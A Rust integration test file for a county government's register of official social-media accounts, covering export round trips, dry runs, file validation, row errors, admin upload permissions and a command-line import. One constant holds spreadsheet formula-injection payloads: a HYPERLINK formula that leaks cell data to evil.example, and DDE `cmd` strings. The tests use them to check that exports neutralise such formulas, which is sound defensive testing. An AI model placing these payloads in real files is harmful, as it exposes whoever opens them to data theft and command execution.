//! Import of an existing register (issue 6): the round trip through the registry export, the dry
//! run and the all-or-nothing import, malformed files, Art. 9 legacy duplicates, row errors, the
//! administrators' upload form and the `server import` command.
use crate::helpers::{TestApp, TestDb, fixed_now, testid_text, xlsx_rows};
use app::domain::RegistryQuery;
use app::domain::import::{FileProblem, ImportMode, ImportReport, RowOutcome, RowProblem};
use app::error::AppError;
use app::i18n::Locale;
use app::server::demo;
use app::server::entities::{account, audit_event, unit};
use app::server::export::{self, csv_lines, registry_headers};
use app::server::import::{self, LEGACY_DUPLICATE_MARKER};
use app::server::use_case::{Operator, UseCase};
use sea_orm::{ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter};
use std::process::Command;

const DEVELOPMENT: &str = "石柱土家族自治县发展和改革委员会";
const EDUCATION: &str = "石柱土家族自治县教育委员会";

/// The county office sees every custodian in full: what an export for re-import needs.
/// The operator at the command line: exports as the county office reads the registry.
fn operator(app: &TestApp, what: &'static str) -> UseCase<Operator> {
    UseCase::operator(app.db.clone(), what, fixed_now())
}

/// A running app whose database has the units and platforms but no accounts and no users.
async fn reference_app() -> TestApp {
    let app = TestApp::spawn_on(TestDb::new().await, false).await;
    demo::load_reference(&app.db, fixed_now())
        .await
        .expect("loading the reference data");
    app
}

async fn run(app: &TestApp, bytes: Vec<u8>, mode: ImportMode) -> Result<ImportReport, AppError> {
    import::run(&operator(app, "import"), "register.csv", bytes, mode).await
}

async fn dry_run(app: &TestApp, bytes: Vec<u8>) -> Result<ImportReport, AppError> {
    run(app, bytes, ImportMode::DryRun).await
}

async fn apply(app: &TestApp, bytes: Vec<u8>) -> Result<ImportReport, AppError> {
    run(app, bytes, ImportMode::Apply).await
}

async fn account_count(app: &TestApp) -> u64 {
    app.count(account::Entity).await
}

/// The registry export as CSV (UTF-8 with BOM, zh-CN headers).
async fn export_csv(app: &TestApp) -> Vec<u8> {
    let mut out = Vec::new();
    export::registry_csv(
        &operator(app, "export"),
        &RegistryQuery::default(),
        Locale::ZhCn,
        &mut out,
    )
    .await
    .expect("exporting CSV");
    out
}

async fn export_xlsx(app: &TestApp) -> Vec<u8> {
    let (file, _) = export::registry_xlsx(
        &operator(app, "export"),
        &RegistryQuery::default(),
        Locale::ZhCn,
    )
    .await
    .expect("exporting XLSX");
    std::fs::read(file.path()).unwrap()
}

fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes.strip_prefix(export::BOM).unwrap_or(bytes)).unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// A row for a new account of the development commission on Douyin (it has none there), in the
/// export's columns.
fn new_row() -> Vec<String> {
    [
        "1",
        DEVELOPMENT,
        "",
        "县级部门",
        "抖音",
        "石柱发展改革",
        "dy_sz_fgw",
        DEVELOPMENT,
        DEVELOPMENT,
        "否",
        "政务信息发布、政策解读",
        "2021-06-01",
        "运营中",
        "否",
        "冉静",
        "13623456789",
        "2026-10-08",
    ]
    .map(str::to_string)
    .to_vec()
}

/// `new_row` with one column changed (by its zh-CN export header).
fn row_with(header: &str, value: &str) -> Vec<String> {
    let mut row = new_row();
    let index = registry_headers(Locale::ZhCn)
        .iter()
        .position(|h| h == header)
        .unwrap_or_else(|| panic!("no column {header}"));
    row[index] = value.to_string();
    row
}

/// A CSV register with the export's zh-CN headers.
fn register(rows: &[Vec<String>]) -> Vec<u8> {
    let mut bytes = export::BOM.to_vec();
    bytes.extend(csv_lines(&[registry_headers(Locale::ZhCn)]).unwrap());
    bytes.extend(csv_lines(rows).unwrap());
    bytes
}

/// The problems of the report's only row.
fn problems(report: &ImportReport) -> Vec<RowProblem> {
    assert_eq!(report.lines.len(), 1, "{report:?}");
    report.lines[0]
        .errors()
        .iter()
        .map(|e| e.problem.clone())
        .collect()
}

async fn the_one_row_problems(app: &TestApp, row: Vec<String>) -> Vec<RowProblem> {
    let report = dry_run(app, register(&[row]))
        .await
        .expect("a readable file");
    problems(&report)
}

// ---- Round trip through the export ----------------------------------------------------------

#[tokio::test]
async fn the_registry_exported_as_csv_and_imported_into_a_fresh_database_exports_identically() {
    let source = TestApp::spawn().await;
    let exported = export_csv(&source).await;
    let target = reference_app().await;

    let report = apply(&target, exported.clone()).await.expect("importable");

    assert!(report.applied, "{report:#?}");
    assert_eq!(report.rows, account_count(&source).await);
    assert_eq!(csv_rows(&export_csv(&target).await), csv_rows(&exported));
}

/// Formulas a unit could type into an account (issue 15 item 2), and where they go.
const FORMULAS: [(&str, &str); 3] = [
    (
        "name",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")",
    ),
    ("purpose", "＋cmd|' /C calc'!A0"),
    ("platform_account_id", "@SUM(1+1)*cmd|' /C calc'!A0"),
];

/// One account of `app` given the [`FORMULAS`] as its name, purpose and platform id.
async fn plant_formulas(app: &TestApp) -> i32 {
    use sea_orm::{ActiveModelTrait, Set};
    let id = app.account_id("education", "wechat_oa").await;
    let found = account::Entity::find_by_id(id)
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();
    let mut edit: account::ActiveModel = found.into();
    edit.name = Set(FORMULAS[0].1.into());
    edit.purpose = Set(FORMULAS[1].1.into());
    edit.platform_account_id = Set(Some(FORMULAS[2].1.into()));
    edit.update(&app.db).await.unwrap();
    id
}

#[tokio::test]
async fn formulas_in_an_account_are_neutralised_in_the_csv_and_import_back_as_they_were() {
    let source = TestApp::spawn().await;
    plant_formulas(&source).await;
    let exported = export_csv(&source).await;
    let rows = csv_rows(&exported);
    let row = rows
        .iter()
        .find(|r| r[5].contains("HYPERLINK"))
        .expect("the account's row");
    // Name, account id and purpose columns: a leading apostrophe, so no spreadsheet runs them.
    assert_eq!(row[5], format!("'{}", FORMULAS[0].1));
    assert_eq!(row[6], format!("'{}", FORMULAS[2].1));
    assert_eq!(row[10], format!("'{}", FORMULAS[1].1));
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']),
            "a cell a spreadsheet would run: {cell:?}"
        );
    }

    let target = reference_app().await;
    let report = apply(&target, exported.clone()).await.expect("importable");
    assert!(report.applied, "{report:#?}");
    let imported = account::Entity::find()
        .filter(account::Column::Name.eq(FORMULAS[0].1))
        .one(&target.db)
        .await
        .unwrap()
        .expect("imported with the name as typed, without the apostrophe");
    assert_eq!(imported.purpose, FORMULAS[1].1);
    assert_eq!(imported.platform_account_id.as_deref(), Some(FORMULAS[2].1));
    assert_eq!(csv_rows(&export_csv(&target).await), rows);
}

#[tokio::test]
async fn formulas_in_an_account_stay_text_in_the_xlsx_and_import_back_as_they_were() {
    let source = TestApp::spawn().await;
    plant_formulas(&source).await;
    let exported = export_xlsx(&source).await;
    let rows = xlsx_rows(&exported);
    let row = rows
        .iter()
        .find(|r| r[5].contains("HYPERLINK"))
        .expect("the account's row");
    // Written as strings: a workbook cell of text is never a formula, and needs no apostrophe.
    assert_eq!(row[5], FORMULAS[0].1);
    assert_eq!(row[10], FORMULAS[1].1);
    let target = reference_app().await;
    let report = apply(&target, exported).await.expect("importable");
    assert!(report.applied, "{report:#?}");
    assert_eq!(
        account::Entity::find()
            .filter(account::Column::Name.eq(FORMULAS[0].1))
            .count(&target.db)
            .await
            .unwrap(),
        1
    );
}

#[tokio::test]
async fn the_registry_exported_as_xlsx_and_imported_into_a_fresh_database_exports_identically() {
    let source = TestApp::spawn().await;
    let exported = export_xlsx(&source).await;
    let target = reference_app().await;

    let report = apply(&target, exported.clone()).await.expect("importable");

    assert!(report.applied, "{report:#?}");
    assert_eq!(report.format, "XLSX");
    assert_eq!(xlsx_rows(&export_xlsx(&target).await), xlsx_rows(&exported));
    assert_eq!(export_csv(&target).await, export_csv(&source).await);
}

#[tokio::test]
async fn the_exported_xlsx_reads_back_with_the_exact_headers_and_values_and_chinese_intact() {
    let app = TestApp::spawn().await;

    let rows = xlsx_rows(&export_xlsx(&app).await);

    assert_eq!(rows[0], registry_headers(Locale::ZhCn));
    assert_eq!(rows, csv_rows(&export_csv(&app).await));
    assert!(rows.iter().any(|r| r.contains(&"石柱发布".to_string())));
    assert!(
        rows.iter()
            .any(|r| r.contains(&"石柱土家族自治县人民政府办公室".to_string()))
    );
}

// ---- Dry run and import ----------------------------------------------------------------------

#[tokio::test]
async fn a_dry_run_reports_what_it_would_create_and_writes_nothing() {
    let app = TestApp::spawn().await;
    let accounts = account_count(&app).await;
    let events = app.count(audit_event::Entity).await;

    let report = dry_run(&app, register(&[new_row()])).await.unwrap();

    assert!(!report.applied);
    assert_eq!(
        (report.rows, report.valid_rows, report.error_rows),
        (1, 1, 0)
    );
    assert_eq!(report.lines[0].row, 2, "the row under the header");
    assert_eq!(report.lines[0].outcome, RowOutcome::Create);
    assert_eq!(account_count(&app).await, accounts);
    assert_eq!(app.count(audit_event::Entity).await, events);
}

#[tokio::test]
async fn an_import_writes_every_account_with_an_audit_event_each_and_one_for_the_file() {
    let app = reference_app().await;
    let second = row_with("平台", "微信视频号");

    let report = apply(&app, register(&[new_row(), second])).await.unwrap();

    assert!(report.applied);
    assert_eq!(account_count(&app).await, 2);
    let imported = app.audit_actions("account.imported").await;
    assert_eq!(imported.len(), 2);
    let ids: Vec<Option<String>> = report
        .lines
        .iter()
        .map(|l| l.account_id.map(|id| id.to_string()))
        .collect();
    assert_eq!(
        imported
            .iter()
            .map(|e| e.entity_id.clone())
            .collect::<Vec<_>>(),
        ids
    );
    let summary = app.audit_actions("registry.imported").await;
    assert_eq!(summary.len(), 1);
    let after: serde_json::Value =
        serde_json::from_str(summary[0].after.as_deref().unwrap()).unwrap();
    assert_eq!(after["file_name"], "register.csv");
    assert_eq!(after["rows"], 2);
    let created = account::Entity::find().all(&app.db).await.unwrap();
    assert!(created.iter().all(|a| a.art9_waiver.is_none()));
    assert_eq!(created[0].custodian_mobile, "13623456789");
    assert_eq!(created[0].created_at, fixed_now());
}

#[tokio::test]
async fn a_file_with_one_bad_row_writes_nothing() {
    let app = reference_app().await;
    let bad = row_with("开设日期", "2021-02-30");

    let report = apply(&app, register(&[new_row(), bad])).await.unwrap();

    assert!(!report.applied);
    assert_eq!((report.valid_rows, report.error_rows), (1, 1));
    assert_eq!(account_count(&app).await, 0);
    assert!(app.audit_actions("account.imported").await.is_empty());
    assert!(app.audit_actions("registry.imported").await.is_empty());
}

#[tokio::test]
async fn importing_the_same_file_again_writes_nothing_and_says_why() {
    let app = reference_app().await;
    let file = register(&[new_row()]);
    apply(&app, file.clone()).await.unwrap();

    let again = apply(&app, file).await.unwrap();

    assert!(!again.applied);
    assert_eq!(problems(&again), vec![RowProblem::AlreadyRegistered]);
    assert_eq!(account_count(&app).await, 1);
}

// ---- Malformed files ---------------------------------------------------------------------------

async fn file_problem(app: &TestApp, bytes: Vec<u8>) -> FileProblem {
    match dry_run(app, bytes).await {
        Err(AppError::Import(problem)) => problem,
        other => panic!("expected a file problem, got {other:?}"),
    }
}

#[tokio::test]
async fn random_bytes_are_not_a_spreadsheet() {
    let app = reference_app().await;
    // A fixed pseudo-random sequence (xorshift), so the test always sees the same bytes.
    let mut x: u32 = 2_463_534_242;
    let bytes: Vec<u8> = (0..4096)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            (x >> 24) as u8
        })
        .collect();

    let problem = file_problem(&app, bytes).await;

    assert_eq!(problem, FileProblem::NotASpreadsheet);
    assert_eq!(
        AppError::Import(problem).message(Locale::En),
        "This file is not an XLSX or CSV spreadsheet."
    );
}

#[tokio::test]
async fn a_png_image_is_not_a_spreadsheet() {
    let app = reference_app().await;
    let png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89".to_vec();

    assert_eq!(file_problem(&app, png).await, FileProblem::NotASpreadsheet);
}

#[tokio::test]
async fn a_truncated_xlsx_is_a_damaged_workbook() {
    let source = TestApp::spawn().await;
    let mut xlsx = export_xlsx(&source).await;
    xlsx.truncate(xlsx.len() / 2);

    assert_eq!(file_problem(&source, xlsx).await, FileProblem::BadWorkbook);
}

#[tokio::test]
async fn a_utf16_csv_is_refused_as_an_unreadable_encoding() {
    let app = reference_app().await;
    let text = String::from_utf8(register(&[new_row()])).unwrap();
    let mut utf16 = vec![0xFF, 0xFE];
    utf16.extend(text.encode_utf16().flat_map(u16::to_le_bytes));

    let problem = file_problem(&app, utf16).await;

    assert_eq!(problem, FileProblem::UnreadableEncoding);
    assert!(
        AppError::Import(problem)
            .message(Locale::ZhCn)
            .contains("UTF-8 或 GBK")
    );
}

#[tokio::test]
async fn bytes_that_are_neither_utf8_nor_gbk_are_refused_as_an_unreadable_encoding() {
    let app = reference_app().await;
    let mut bytes = register(&[new_row()]);
    bytes.extend(b"\xFF\xFF\xFF,\x81\x20\n");

    assert_eq!(
        file_problem(&app, bytes).await,
        FileProblem::UnreadableEncoding
    );
}

#[tokio::test]
async fn a_gbk_encoded_csv_as_excel_saves_it_imports_correctly() {
    let app = reference_app().await;
    let utf8 = register(&[new_row()]);
    let text = std::str::from_utf8(&utf8[export::BOM.len()..]).unwrap();
    let (gbk, _, unmappable) = encoding_rs::GBK.encode(text);
    assert!(!unmappable);

    let report = apply(&app, gbk.into_owned()).await.unwrap();

    assert!(report.applied, "{report:#?}");
    let created = account::Entity::find().one(&app.db).await.unwrap().unwrap();
    assert_eq!(created.name, "石柱发展改革");
    assert_eq!(created.purpose, "政务信息发布、政策解读");
}

#[tokio::test]
async fn common_header_variants_and_a_title_row_are_understood() {
    let app = reference_app().await;
    let csv = "石柱县政务新媒体账号登记表（2026年）\n\
        序号,单位名称,平台名称,账号,链接,认证主体,运营单位,是否委托,功能定位,开通日期,账号状态,是否纳入报送系统,保管人,手机号,改密日期,备注\n\
        1,　石柱土家族自治县发展和改革委员会　,抖音,石柱发展改革,dy_sz_fgw,石柱土家族自治县发展和改革委员会,石柱土家族自治县发展和改革委员会,N,政务信息发布,2021/6/1,正常,是,冉静,136 2345 6789,2026年10月8日,老台账\n";

    let report = apply(&app, csv.as_bytes().to_vec()).await.unwrap();

    assert!(report.applied, "{report:#?}");
    assert_eq!(report.header_row, 2);
    assert_eq!(report.ignored_columns, vec!["备注".to_string()]);
    let created = account::Entity::find().one(&app.db).await.unwrap().unwrap();
    assert_eq!(created.opened_on.to_string(), "2021-06-01");
    assert_eq!(created.custodian_mobile, "13623456789");
    assert!(created.in_national_system);
    assert_eq!(
        created.password_rotated_on.unwrap().to_string(),
        "2026-10-08"
    );
}

#[tokio::test]
async fn english_headers_and_labels_are_understood() {
    let source = TestApp::spawn().await;
    let mut exported = Vec::new();
    export::registry_csv(
        &operator(&source, "export"),
        &RegistryQuery::default(),
        Locale::En,
        &mut exported,
    )
    .await
    .unwrap();
    let target = reference_app().await;

    let report = apply(&target, exported).await.unwrap();

    assert!(report.applied, "{report:#?}");
    assert_eq!(export_csv(&target).await, export_csv(&source).await);
}

#[tokio::test]
async fn a_missing_required_column_is_named_in_the_error() {
    let app = reference_app().await;
    let csv = "主办单位,平台,账号名称,认证主体,运维单位,功能定位,开设日期,状态,密码保管人\n\
        石柱土家族自治县发展和改革委员会,抖音,石柱发展改革,a,b,c,2021-06-01,运营中,冉静\n";

    let problem = file_problem(&app, csv.as_bytes().to_vec()).await;

    assert_eq!(
        AppError::Import(problem).message(Locale::ZhCn),
        "缺少必需的列：保管人手机。"
    );
}

#[tokio::test]
async fn a_file_over_20_mb_is_refused_before_it_is_read() {
    let app = reference_app().await;
    let bytes = vec![b'a'; app::domain::import::MAX_BYTES + 1];

    assert_eq!(
        file_problem(&app, bytes).await,
        FileProblem::TooLarge { max_mb: 20 }
    );
}

#[tokio::test]
async fn more_than_200000_rows_are_refused() {
    let app = reference_app().await;
    let mut csv = String::from(
        "主办单位,平台,账号名称,认证主体,运维单位,功能定位,开设日期,状态,密码保管人,保管人手机\n",
    );
    for i in 0..200_001 {
        csv.push_str(&format!("u{i},p,a,s,o,x,2021-06-01,运营中,c,13623456789\n"));
    }

    assert_eq!(
        file_problem(&app, csv.into_bytes()).await,
        FileProblem::TooManyRows { max: 200_000 }
    );
}

// ---- Art. 9 legacy duplicates ------------------------------------------------------------------

#[tokio::test]
async fn a_second_live_account_of_a_unit_on_a_platform_is_imported_with_the_marker_and_reported() {
    // The demo's education commission already has a live WeChat official account.
    let app = TestApp::spawn().await;
    let legacy = [
        ("主办单位", EDUCATION),
        ("平台", "微信公众号"),
        ("账号名称", "石柱教育发布"),
        ("认证主体", EDUCATION),
        ("运维单位", EDUCATION),
    ]
    .iter()
    .fold(new_row(), |mut row, (header, value)| {
        let index = registry_headers(Locale::ZhCn)
            .iter()
            .position(|h| h == header)
            .unwrap();
        row[index] = value.to_string();
        row
    });

    let dry = dry_run(&app, register(std::slice::from_ref(&legacy)))
        .await
        .unwrap();
    assert_eq!(dry.lines[0].outcome, RowOutcome::Art9Duplicate);
    assert_eq!((dry.art9_duplicates, dry.error_rows), (1, 0));
    let report = apply(&app, register(&[legacy])).await.unwrap();

    assert!(report.applied);
    let id = report.lines[0].account_id.unwrap();
    let imported = account::Entity::find_by_id(id)
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        imported.art9_waiver.as_deref(),
        Some(LEGACY_DUPLICATE_MARKER)
    );
    assert_eq!(imported.status.as_str(), "active");
}

#[tokio::test]
async fn two_live_accounts_of_a_unit_on_a_platform_in_one_file_import_the_second_with_the_marker() {
    let app = reference_app().await;
    let second = row_with("账号名称", "石柱发改委");

    let report = apply(&app, register(&[new_row(), second])).await.unwrap();

    assert!(report.applied);
    let outcomes: Vec<&RowOutcome> = report.lines.iter().map(|l| &l.outcome).collect();
    assert_eq!(
        outcomes,
        vec![&RowOutcome::Create, &RowOutcome::Art9Duplicate]
    );
    let marked = account::Entity::find()
        .filter(account::Column::Art9Waiver.eq(LEGACY_DUPLICATE_MARKER))
        .all(&app.db)
        .await
        .unwrap();
    assert_eq!(marked.len(), 1);
    assert_eq!(marked[0].name, "石柱发改委");
}

#[tokio::test]
async fn a_deregistered_account_beside_a_live_one_is_no_duplicate() {
    let app = reference_app().await;
    let closed = row_with("状态", "已注销");

    let report = apply(&app, register(&[closed, row_with("账号名称", "新账号")]))
        .await
        .unwrap();

    assert!(report.applied);
    assert_eq!(report.art9_duplicates, 0);
}

// ---- Row errors --------------------------------------------------------------------------------

#[tokio::test]
async fn an_unknown_unit_is_an_error_of_its_row() {
    let app = reference_app().await;
    let problems = the_one_row_problems(&app, row_with("主办单位", "石柱县不存在局")).await;
    assert_eq!(problems, vec![RowProblem::UnknownUnit]);
}

#[tokio::test]
async fn a_unit_is_found_by_its_credit_code_when_its_name_has_changed() {
    let app = reference_app().await;
    let code = unit::Entity::find()
        .filter(unit::Column::Name.eq(DEVELOPMENT))
        .one(&app.db)
        .await
        .unwrap()
        .unwrap()
        .credit_code
        .unwrap();
    let mut row = row_with("主办单位", "石柱县发展计划委员会");
    row[2] = code;

    assert_eq!(the_one_row_problems(&app, row).await, vec![]);
}

#[tokio::test]
async fn an_unknown_platform_is_an_error_of_its_row() {
    let app = reference_app().await;
    let problems = the_one_row_problems(&app, row_with("平台", "人人网")).await;
    assert_eq!(problems, vec![RowProblem::UnknownPlatform]);
}

#[tokio::test]
async fn a_malformed_credit_code_is_an_error_of_its_row() {
    let app = reference_app().await;
    let problems =
        the_one_row_problems(&app, row_with("统一社会信用代码", "11500240MB152000X")).await;
    assert_eq!(problems, vec![RowProblem::BadCreditCode]);
}

#[tokio::test]
async fn another_units_credit_code_is_an_error_of_its_row() {
    let app = reference_app().await;
    let education = unit::Entity::find()
        .filter(unit::Column::Name.eq(EDUCATION))
        .one(&app.db)
        .await
        .unwrap()
        .unwrap()
        .credit_code
        .unwrap();
    let problems = the_one_row_problems(&app, row_with("统一社会信用代码", &education)).await;
    assert_eq!(problems, vec![RowProblem::CreditCodeMismatch]);
}

#[tokio::test]
async fn a_bad_date_is_an_error_of_its_row() {
    let app = reference_app().await;
    let problems = the_one_row_problems(&app, row_with("开设日期", "2021年13月1日")).await;
    assert_eq!(problems, vec![RowProblem::BadDate]);
}

#[tokio::test]
async fn a_masked_mobile_is_an_error_of_its_row_since_the_real_number_is_needed() {
    let app = reference_app().await;
    let problems = the_one_row_problems(&app, row_with("保管人手机", "136****6789")).await;
    assert_eq!(problems, vec![RowProblem::MaskedMobile]);
}

#[tokio::test]
async fn a_missing_value_is_an_error_naming_its_column() {
    let app = reference_app().await;
    let report = dry_run(&app, register(&[row_with("密码保管人", "")]))
        .await
        .unwrap();
    let error = &report.lines[0].errors()[0];
    assert_eq!(
        (error.column.as_str(), &error.problem),
        ("密码保管人", &RowProblem::Required)
    );
}

#[tokio::test]
async fn an_account_of_an_internal_division_is_an_error_under_art_9() {
    let app = reference_app().await;
    let division = "石柱土家族自治县人民政府办公室政务公开科";
    let problems = the_one_row_problems(&app, row_with("主办单位", division)).await;
    assert_eq!(problems, vec![RowProblem::UnitMayNotHost]);
}

// ---- Over HTTP -----------------------------------------------------------------------------------

fn upload(bytes: Vec<u8>, file_name: &str, mode: &str) -> reqwest::multipart::Form {
    reqwest::multipart::Form::new()
        .part(
            "file",
            reqwest::multipart::Part::bytes(bytes).file_name(file_name.to_string()),
        )
        .text("mode", mode.to_string())
}

async fn post_import(
    app: &TestApp,
    client: &reqwest::Client,
    form: reqwest::multipart::Form,
) -> reqwest::Response {
    client
        .post(app.url("/admin/import"))
        .header("accept", "text/html")
        .multipart(form)
        .send()
        .await
        .unwrap()
}

/// As a script posts: without `Accept: text/html`, so the status says how it went.
async fn post_import_as_script(
    app: &TestApp,
    client: &reqwest::Client,
    form: reqwest::multipart::Form,
) -> reqwest::Response {
    client
        .post(app.url("/admin/import"))
        .multipart(form)
        .send()
        .await
        .unwrap()
}

fn total(html: &str, key: &str) -> Option<String> {
    let marker = format!("data-total=\"{key}\">");
    let start = html.find(&marker)? + marker.len();
    let end = html[start..].find('<')?;
    Some(html[start..start + end].to_string())
}

#[tokio::test]
async fn a_reviewer_may_not_import() {
    let app = TestApp::spawn().await;
    let reviewer = app.signed_in("reviewer").await;
    let accounts = account_count(&app).await;

    let response = post_import(
        &app,
        &reviewer,
        upload(register(&[new_row()]), "r.csv", "apply"),
    )
    .await;

    assert_eq!(response.status(), 403);
    assert_eq!(account_count(&app).await, accounts);
}

#[tokio::test]
async fn a_signed_out_upload_is_refused() {
    let app = TestApp::spawn().await;

    let response = post_import(
        &app,
        &app.client(),
        upload(register(&[new_row()]), "r.csv", "apply"),
    )
    .await;

    assert_eq!(response.status(), 401);
}

#[tokio::test]
async fn an_administrator_runs_a_dry_run_then_imports_through_the_form() {
    let app = TestApp::spawn().await;
    let admin = app.signed_in("admin").await;
    let accounts = account_count(&app).await;
    let file = register(&[new_row()]);

    let dry = post_import(&app, &admin, upload(file.clone(), "老台账.csv", "dry_run")).await;
    assert_eq!(dry.status(), 200);
    let html = dry.text().await.unwrap();
    assert!(testid_text(&html, "import-ready").is_some(), "{html}");
    assert!(html.contains("老台账.csv"));
    assert_eq!(total(&html, "valid_rows").as_deref(), Some("1"));
    assert_eq!(account_count(&app).await, accounts);

    let applied = post_import(&app, &admin, upload(file, "老台账.csv", "apply")).await;
    assert_eq!(applied.status(), 200);
    let html = applied.text().await.unwrap();
    assert!(testid_text(&html, "import-applied").is_some(), "{html}");
    assert_eq!(account_count(&app).await, accounts + 1);
    assert_eq!(
        app.audit_actions("account.imported").await[0]
            .actor_username
            .as_deref(),
        Some("admin")
    );
}

#[tokio::test]
async fn an_unreadable_upload_shows_the_form_with_a_clear_error() {
    let app = TestApp::spawn().await;
    let admin = app.signed_in("admin").await;

    let response = post_import(
        &app,
        &admin,
        upload(b"\x89PNG\r\n\x1a\n\x00".to_vec(), "x.csv", "apply"),
    )
    .await;

    // A browser lands on the page with the refusal on it, as after every form of the app.
    assert_eq!(response.status(), 200);
    let html = response.text().await.unwrap();
    let error = testid_text(&html, "import-error").unwrap();
    assert!(error.contains("不是 XLSX 或 CSV 表格"), "{error}");
    assert!(html.contains("data-testid=\"import-form\""));
}

#[tokio::test]
async fn an_upload_over_the_limit_is_refused_with_413() {
    let app = TestApp::spawn().await;
    let admin = app.signed_in("admin").await;
    let accounts = account_count(&app).await;

    let response = post_import_as_script(
        &app,
        &admin,
        upload(vec![b'a'; 21 * 1024 * 1024], "big.csv", "apply"),
    )
    .await;

    // The server answers as soon as the limit is passed and then closes the connection, so the
    // client may not get to read the page; the status it always gets (the message is
    // `a_file_over_20_mb_is_refused_before_it_is_read`'s).
    assert_eq!(response.status(), 413);
    assert_eq!(account_count(&app).await, accounts);
}

#[tokio::test]
async fn a_hundred_thousand_rows_with_errors_get_a_clear_report_quickly_and_nothing_is_written() {
    let app = TestApp::spawn().await;
    let admin = app.signed_in("admin").await;
    let accounts = account_count(&app).await;
    let mut csv = String::from(
        "主办单位,平台,账号名称,认证主体,运维单位,功能定位,开设日期,状态,密码保管人,保管人手机\n",
    );
    for i in 0..100_000 {
        csv.push_str(&format!(
            "不存在的单位{i},微信公众号,账号{i},s,o,p,2021-06-01,运营中,冉静,13623456789\n"
        ));
    }
    let started = std::time::Instant::now();

    let response = post_import(&app, &admin, upload(csv.into_bytes(), "big.csv", "apply")).await;

    assert_eq!(response.status(), 200);
    let html = response.text().await.unwrap();
    assert!(
        started.elapsed() < std::time::Duration::from_secs(60),
        "{:?}",
        started.elapsed()
    );
    assert!(testid_text(&html, "import-refused").is_some());
    assert_eq!(total(&html, "error_rows").as_deref(), Some("100000"));
    assert_eq!(html.matches("data-testid=\"import-row\"").count(), 500);
    assert!(
        testid_text(&html, "import-omitted")
            .unwrap()
            .contains("99500")
    );
    assert_eq!(account_count(&app).await, accounts);
}

#[tokio::test]
async fn a_script_whose_import_is_refused_for_its_errors_gets_400_and_nothing_is_written() {
    let app = TestApp::spawn().await;
    let admin = app.signed_in("admin").await;
    let accounts = account_count(&app).await;
    let file = register(&[new_row(), row_with("平台", "人人网")]);

    let response = post_import_as_script(&app, &admin, upload(file, "r.csv", "apply")).await;

    assert_eq!(response.status(), 400);
    assert!(testid_text(&response.text().await.unwrap(), "import-refused").is_some());
    assert_eq!(account_count(&app).await, accounts);
}

#[tokio::test]
async fn the_import_page_and_its_link_are_for_administrators_only() {
    let app = TestApp::spawn().await;
    let admin = app.signed_in("admin").await;
    let reviewer = app.signed_in("reviewer").await;

    let admin_page = app.html(&admin, "/admin/import").await;
    let reviewer_page = app.html(&reviewer, "/admin/import").await;

    assert!(admin_page.contains("data-testid=\"nav-import\""));
    assert!(admin_page.contains("data-testid=\"import-form\""));
    assert!(!reviewer_page.contains("data-testid=\"nav-import\""));
    assert!(!reviewer_page.contains("data-testid=\"import-form\""));
}

// ---- The command line -----------------------------------------------------------------------------

fn server_import(database_url: &str, args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_server"))
        .arg("import")
        .args(args)
        .env("DATABASE_URL", database_url)
        .env("RUST_LOG", "warn")
        .output()
        .expect("running the server binary")
}

async fn cli(app: &TestApp, file: Vec<u8>, dry_run: bool) -> std::process::Output {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("register.csv");
    std::fs::write(&path, file).unwrap();
    let url = app.test_db.url.clone();
    tokio::task::spawn_blocking(move || {
        let path = path.to_str().unwrap().to_string();
        let mut args = vec![path.as_str()];
        if dry_run {
            args.push("--dry-run");
        }
        let output = server_import(&url, &args);
        drop(dir);
        output
    })
    .await
    .unwrap()
}

#[tokio::test]
async fn the_command_line_dry_run_prints_the_report_and_writes_nothing() {
    let app = reference_app().await;

    let output = cli(&app, register(&[new_row()]), true).await;

    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("row 2: create"), "{stdout}");
    assert!(stdout.contains("nothing was written"), "{stdout}");
    assert_eq!(account_count(&app).await, 0);
}

#[tokio::test]
async fn the_command_line_imports_the_accounts() {
    let app = reference_app().await;

    let output = cli(&app, register(&[new_row()]), false).await;

    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(String::from_utf8_lossy(&output.stdout).contains("1 accounts imported"));
    assert_eq!(account_count(&app).await, 1);
    let events = app.audit_actions("registry.imported").await;
    assert_eq!(events[0].actor_username.as_deref(), Some("cli:import"));
}

#[tokio::test]
async fn the_command_line_exits_2_and_writes_nothing_when_a_row_has_an_error() {
    let app = reference_app().await;

    let output = cli(
        &app,
        register(&[new_row(), row_with("平台", "人人网")]),
        false,
    )
    .await;

    assert_eq!(output.status.code(), Some(2));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("row 3: ERROR"), "{stdout}");
    assert!(
        stdout.contains("平台 “人人网”: unknown platform"),
        "{stdout}"
    );
    assert_eq!(account_count(&app).await, 0);
}

#[tokio::test]
async fn the_dry_run_page_says_a_legacy_duplicate_goes_on_the_rectification_list() {
    let app = TestApp::spawn().await;
    let admin = app.signed_in("admin").await;
    // The demo's development commission already has a live WeChat official account.
    let duplicate = row_with("平台", "微信公众号");

    let response = post_import(
        &app,
        &admin,
        upload(register(&[duplicate]), "r.csv", "dry_run"),
    )
    .await;

    let html = response.text().await.unwrap();
    assert!(html.contains("data-outcome=\"art9_duplicate\""), "{html}");
    assert!(html.contains("第九条重复账号：导入并列入整改清单"));
    assert_eq!(total(&html, "art9_duplicates").as_deref(), Some("1"));
}
